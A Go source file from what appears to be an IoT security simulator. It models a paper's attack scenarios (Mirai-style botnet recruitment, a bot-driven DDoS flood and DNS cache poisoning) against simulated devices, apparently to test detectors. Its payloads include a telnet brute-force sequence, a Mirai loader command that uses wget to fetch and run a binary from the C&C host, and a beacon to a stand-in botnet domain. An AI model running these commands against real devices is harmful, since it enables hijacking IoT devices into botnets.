package attack

import (
	"fmt"
	"sort"
	"time"

	"xlf/internal/device"
	"xlf/internal/netsim"
)

// MiraiRecruit is the §III-B botnet recruitment chain: scan the LAN for
// telnet, brute-force factory credentials, drop the loader (whose shell
// strings are exactly what DPI signatures match), then beacon to the C&C.
type MiraiRecruit struct {
	// CNC is the command-and-control endpoint.
	CNC netsim.Addr
	// BeaconEvery sets the keep-alive period of recruited bots.
	BeaconEvery time.Duration

	recruited []string
}

var _ Attack = (*MiraiRecruit)(nil)

// Name implements Attack.
func (a *MiraiRecruit) Name() string { return "mirai-recruitment" }

// Layer implements Attack.
func (a *MiraiRecruit) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *MiraiRecruit) TableII() (string, string, string) { return "", "", "" }

// Recruited lists device IDs captured by the last Execute.
func (a *MiraiRecruit) Recruited() []string { return append([]string(nil), a.recruited...) }

// Execute implements Attack.
func (a *MiraiRecruit) Execute(env *Env) Result {
	if a.BeaconEvery <= 0 {
		a.BeaconEvery = 30 * time.Second
	}
	a.recruited = nil
	probes := 0
	// Scan phase: touch every LAN device's telnet port plus dead space,
	// generating the fan-out the scan detector keys on.
	targets := make([]string, 0, len(env.Devices))
	for id := range env.Devices {
		targets = append(targets, id)
	}
	// Deterministic order.
	sortStrings(targets)
	for i, id := range targets {
		d := env.Devices[id]
		delay := time.Duration(i) * 150 * time.Millisecond
		src := netsim.Addr("lan:" + id)
		env.Kernel.Schedule(delay, "mirai-scan", func() {
			sendLAN(env, src, 23, "telnet", 60, []byte("\xff\xfb\x01"), "attack:scan")
		})
		probes++
		if !d.HasOpenPort("telnet") {
			continue
		}
		// Brute-force phase: the classic dictionary.
		for j, cred := range device.WeakPasswords {
			cred := cred
			env.Kernel.Schedule(delay+time.Duration(j+1)*200*time.Millisecond, "mirai-brute", func() {
				sendLAN(env, src, 23, "telnet", 80,
					[]byte(cred.User+":"+cred.Password+"\nenable\nsystem\nshell"), "attack:bruteforce")
			})
			if d.Login(cred.User, cred.Password) {
				// Loader phase: the dropper shell sequence.
				env.Kernel.Schedule(delay+2*time.Second, "mirai-load", func() {
					sendLAN(env, src, 23, "telnet", 300,
						[]byte("/bin/busybox; wget http://"+string(a.CNC)+"/mirai.arm; chmod 777 ./dvrHelper && ./dvrHelper"),
						"attack:loader")
				})
				d.Compromise("mirai")
				a.recruited = append(a.recruited, id)
				env.MarkInjection("mirai", id)
				// Beacon phase: periodic C&C keep-alives from the bot.
				env.Kernel.Schedule(delay+3*time.Second, "mirai-beacon-start", func() {
					env.Kernel.Every(a.BeaconEvery, 0, "mirai-beacon", func() {
						if !d.Compromised {
							return
						}
						env.Gateway.SendOut(env.Net, &netsim.Packet{
							Src: src, SrcPort: 48101,
							Dst: a.CNC, DstPort: 6667,
							Proto: "TCP", Size: 64,
							Payload: []byte("PING cnc.botnet.example"),
							App:     "attack:cc-beacon",
						})
					})
				})
				break
			}
		}
	}
	if len(a.recruited) == 0 {
		return Result{Attack: a.Name(), Blocked: "no device with telnet + default credentials"}
	}
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: fmt.Sprintf("recruited %d devices into botnet", len(a.recruited)),
	}
}

// DDoSFlood launches a volumetric flood from previously recruited bots.
type DDoSFlood struct {
	Victim netsim.Addr
	// Rate is packets/second per bot; Duration bounds the flood.
	Rate     int
	Duration time.Duration
	// Bots lists compromised device IDs to use; empty = every compromised
	// device in the environment.
	Bots []string
}

var _ Attack = (*DDoSFlood)(nil)

// Name implements Attack.
func (a *DDoSFlood) Name() string { return "ddos-flood" }

// Layer implements Attack.
func (a *DDoSFlood) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *DDoSFlood) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *DDoSFlood) Execute(env *Env) Result {
	bots := a.Bots
	if len(bots) == 0 {
		for id, d := range env.Devices {
			if d.Compromised {
				bots = append(bots, id)
			}
		}
		sortStrings(bots)
	}
	// Skip IDs that name no device in the environment.
	known := make([]string, 0, len(bots))
	for _, id := range bots {
		if env.Devices[id] != nil {
			known = append(known, id)
		}
	}
	if len(known) == 0 {
		return Result{Attack: a.Name(), Blocked: "no bots available"}
	}
	rate := a.Rate
	if rate <= 0 {
		rate = 100
	}
	dur := a.Duration
	if dur <= 0 {
		dur = 10 * time.Second
	}
	interval := time.Second / time.Duration(rate)
	for _, id := range known {
		d := env.Devices[id]
		src := netsim.Addr("lan:" + id)
		t := env.Kernel.Every(interval, interval/4, "ddos", func() {
			if !d.Compromised {
				return
			}
			env.Gateway.SendOut(env.Net, &netsim.Packet{
				Src: src, SrcPort: 50000,
				Dst: a.Victim, DstPort: 80,
				Proto: "UDP", Size: 512, App: "attack:flood",
			})
		})
		env.Kernel.Schedule(dur, "ddos-stop", t.Stop)
		env.MarkInjection("flood", id)
	}
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: fmt.Sprintf("%d bots flooding %s at %d pps each", len(known), a.Victim, rate),
	}
}

// DNSPoison races the resolver with a forged response for a vendor
// domain, redirecting the device's hard-coded endpoint (§IV-A3's
// DNS-cache-poisoning concern).
type DNSPoison struct {
	Resolver *netsim.Resolver
	Domain   string
	Redirect netsim.Addr
	// lookFn triggers a lookup so there is a pending query to race.
	Lookup func(cb func(netsim.Addr, error))
}

var _ Attack = (*DNSPoison)(nil)

// Name implements Attack.
func (a *DNSPoison) Name() string { return "dns-cache-poisoning" }

// Layer implements Attack.
func (a *DNSPoison) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *DNSPoison) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *DNSPoison) Execute(env *Env) Result {
	if a.Resolver == nil {
		return Result{Attack: a.Name(), Blocked: "no resolver in scope"}
	}
	// Forged response from off-path, racing the legitimate answer.
	env.Net.Send(&netsim.Packet{
		Src: env.AttackerWAN, Dst: a.Resolver.Addr(), SrcPort: 53, DstPort: 5353,
		Proto: "DNS", Size: 120, DNSName: a.Domain, Payload: []byte(a.Redirect),
		App: "attack:dns-forge",
	})
	var got netsim.Addr
	if a.Lookup != nil {
		a.Lookup(func(addr netsim.Addr, err error) { got = addr })
	} else {
		a.Resolver.Lookup(env.Net, a.Domain, func(addr netsim.Addr, err error) { got = addr })
	}
	// Give the race time to settle.
	env.Kernel.Run(env.Kernel.Now() + 3*time.Second)
	if got == a.Redirect {
		return Result{Attack: a.Name(), Succeeded: true, Impact: "device endpoint redirected to attacker"}
	}
	return Result{Attack: a.Name(), Blocked: "forgery rejected (encrypted channel or lost race)"}
}

func sortStrings(s []string) { sort.Strings(s) }
